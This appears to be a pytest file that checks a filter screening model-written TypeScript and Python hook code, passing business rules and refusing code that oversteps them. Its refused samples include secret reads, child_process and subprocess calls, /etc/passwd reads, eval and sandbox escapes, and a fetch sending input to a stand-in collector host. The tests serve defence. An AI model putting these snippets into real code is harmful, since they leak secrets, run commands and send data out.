"""Model-written slot code may hold business rules, and nothing that reaches past them."""

from __future__ import annotations

import pytest

from webnova.adapters.brains.port import RepairPlan, SlotEdit
from webnova.graphs.repair import screen_plan
from webnova.graphs.slot_policy import refusals
from webnova.i18n import use_locale

TS = "server/src/hooks/appointment.ts"
PY = "app/hooks/appointment.py"

RULES_TS = """  if (new Date(input.startsAt).getTime() < Date.now()) {
    throw new HttpError(422, 'in_the_past', 'Appointments cannot be in the past.');
  }
  const minutes = Math.round(Number(input.process ?? 0));
  return { ...input, notes: (input.notes ?? '').trim(), minutes };
"""
RULES_PY = """    from datetime import datetime, timezone
    import decimal
    start = data.get("starts_at")
    if start and datetime.fromisoformat(start) < datetime.now(timezone.utc):
        raise HTTPException(status_code=422, detail="Appointments cannot be in the past.")
    data["fee"] = str(decimal.Decimal(data.get("fee") or 0).quantize(decimal.Decimal("0.01")))
    return data
"""


def test_business_rules_pass() -> None:
    assert refusals(TS, RULES_TS) == []
    assert refusals(PY, RULES_PY) == []
    assert screen_plan(RepairPlan(edits=[SlotEdit(file=TS, name="beforeCreate", code=RULES_TS),
                                         SlotEdit(file=PY, name="before_create",
                                                  code=RULES_PY)])) == []


@pytest.mark.parametrize("code", [
    "  const key = process.env.JWT_SECRET;\n  return { ...input, key };",
    "  const cp = await import('node:child_process');\n  return input;",
    "  return require('fs').readFileSync('/etc/passwd');",
    "  eval(String(input.name));\n  return input;",
    "  return (input as any).constructor.constructor('return process')();",
    "  await fetch('https://collector.example/' + JSON.stringify(input));\n  return input;",
    "  globalThis['pro' + 'cess'];\n  return input;",
    "  setInterval(() => undefined, 1000);\n  return input;",
])
def test_typescript_that_reaches_past_the_rules_is_refused(code: str) -> None:
    assert refusals(TS, code), code


@pytest.mark.parametrize("code", [
    "    import os\n    return {**data, 'k': os.environ['JWT_SECRET']}",
    "    __import__('subprocess').run(['id'])\n    return data",
    "    return getattr(data, 'x')",
    "    open('/etc/passwd').read()\n    return data",
    "    import urllib.request\n    return data",
    "    ().__class__.__base__.__subclasses__()\n    return data",
    "    exec(data['name'])\n    return data",
])
def test_python_that_reaches_past_the_rules_is_refused(code: str) -> None:
    assert refusals(PY, code), code


def test_the_reason_names_the_line_and_speaks_arabic() -> None:
    code = "  const ok = true;\n  const key = process.env.SECRET;\n  return input;"
    assert refusals(TS, code)[0].startswith("line 2: reads the process")
    with use_locale("ar"):
        (reason,) = refusals(TS, code)
    assert "السطر 2" in reason and "process." in reason
